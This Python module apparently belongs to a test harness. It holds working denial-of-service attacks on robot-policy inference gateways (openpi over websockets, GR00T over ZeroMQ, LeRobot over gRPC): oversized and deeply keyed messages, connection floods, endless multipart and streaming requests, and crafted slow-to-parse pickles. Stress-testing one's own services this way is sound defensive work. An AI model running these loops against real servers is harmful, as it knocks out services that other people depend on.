"""Attacks on the gateways for other projects' clients: as `attacks`, with a gateway's address."""

import contextlib
import itertools
import socket
import time
from collections.abc import Callable, Mapping

import grpc
import msgspec
import zmq
from websockets.exceptions import WebSocketException
from websockets.sync.client import connect

_MB = 2**20


def openpi_keys(address: str) -> None:
    """Send messages with a million keys."""
    _ask_openpi(address, msgspec.msgpack.encode({f"k{i}": 1 for i in range(1_000_000)}))


def openpi_numbers(address: str) -> None:
    """Send messages with a million numbers, each a separate value."""
    _ask_openpi(address, msgspec.msgpack.encode({"observation/joint_position": [0.5] * 1_000_000}))


def openpi_connections(address: str) -> None:
    """Open two hundred connections at once that greet and then stay silent."""
    open_ones = []
    while True:
        with contextlib.suppress(OSError, WebSocketException):
            open_ones += [connect(f"ws://{address}", open_timeout=1.0) for _ in range(200)]
        time.sleep(0.5)
        for connection in open_ones[:-100]:
            connection.close()


def openpi_silence(address: str) -> None:
    """Open connections that never greet."""
    while True:
        with contextlib.ExitStack() as open_ones:
            for _ in range(300):
                with contextlib.suppress(OSError):
                    open_ones.enter_context(socket.create_connection(_host_and_port(address), timeout=1.0))
            time.sleep(0.2)


def groot_large(address: str) -> None:
    """Send requests of 4 MB from a DEALER that never waits, and from others that come and go."""
    request = {"endpoint": "get_action", "data": {"observation": {"x": bytes(4 * _MB)}}}
    data = msgspec.msgpack.encode(request)
    while True:
        peer: zmq.Socket = zmq.Context.instance().socket(zmq.DEALER)
        peer.set(zmq.LINGER, 0)
        peer.set(zmq.SNDTIMEO, 200)
        peer.connect(f"tcp://{address}")
        for _ in range(100):
            with contextlib.suppress(zmq.Again):
                peer.send_multipart([b"", data], copy=False)
        peer.close()


def groot_parts(address: str) -> None:
    """Send a message with endless parts."""
    peer: zmq.Socket = zmq.Context.instance().socket(zmq.DEALER)
    peer.set(zmq.LINGER, 0)
    peer.connect(f"tcp://{address}")
    while True:
        peer.send(b"x" * 1000, zmq.SNDMORE)


def lerobot_instructions(address: str) -> None:
    """Send pickles that take as long as possible to read: many values, keys and levels."""
    pairs = (b"\x8a\x08" + i.to_bytes(8, "little") + b"N" for i in range(9_000))
    _observe(address, b"\x80\x04}(" + b"".join(pairs) + b"u.")


def lerobot_large(address: str) -> None:
    """Send observations of 30 MB."""
    _observe(address, b"\x80\x04B" + (30 * _MB).to_bytes(4, "little") + bytes(30 * _MB) + b".")


def lerobot_unfinished(address: str) -> None:
    """Send many observations at once that never end."""
    pieces = []
    with grpc.insecure_channel(address) as channel:
        send = channel.stream_unary("/transport.AsyncInference/SendObservations")
        for i in itertools.count():
            pieces.append(send.future(itertools.chain([_piece(bytes(_MB), 1)], _never())))
            time.sleep(0.01 if i < 100 else 0.5)


def _never() -> itertools.repeat:
    time.sleep(3600.0)
    return itertools.repeat(b"", 0)


def _observe(address: str, pickled: bytes) -> None:
    with grpc.insecure_channel(address) as channel:
        send = channel.stream_unary("/transport.AsyncInference/SendObservations")
        while True:
            parts = [pickled[i : i + 2 * _MB] for i in range(0, len(pickled), 2 * _MB)]
            with contextlib.suppress(grpc.RpcError):
                send(iter([_piece(part, 3 if part is parts[-1] else 2) for part in parts]), timeout=10.0)


def _piece(data: bytes, state: int) -> bytes:
    """Return a protobuf `Observation`."""
    size, length = len(data), bytearray()
    while size > 0x7F:
        length.append(size & 0x7F | 0x80)
        size >>= 7
    return bytes([0x08, state, 0x12, *length, size]) + data


def _ask_openpi(address: str, message: bytes) -> None:
    while True:
        with (
            contextlib.suppress(OSError, WebSocketException),
            connect(f"ws://{address}", compression=None, max_size=None) as connection,
        ):
            connection.recv()
            while True:
                connection.send(message)
                connection.recv()


def _host_and_port(address: str) -> tuple[str, int]:
    host, _, port = address.rpartition(":")
    return host, int(port)


_ALL = (
    openpi_keys, openpi_numbers, openpi_connections, openpi_silence, groot_large, groot_parts,
    lerobot_instructions, lerobot_large, lerobot_unfinished,
)  # fmt: skip
GATEWAY_ATTACKS: Mapping[str, tuple[str, Callable[[str], None]]] = {
    attack.__name__: (attack.__name__.partition("_")[0], attack) for attack in _ALL
}
"""Name -> gateway and attack."""
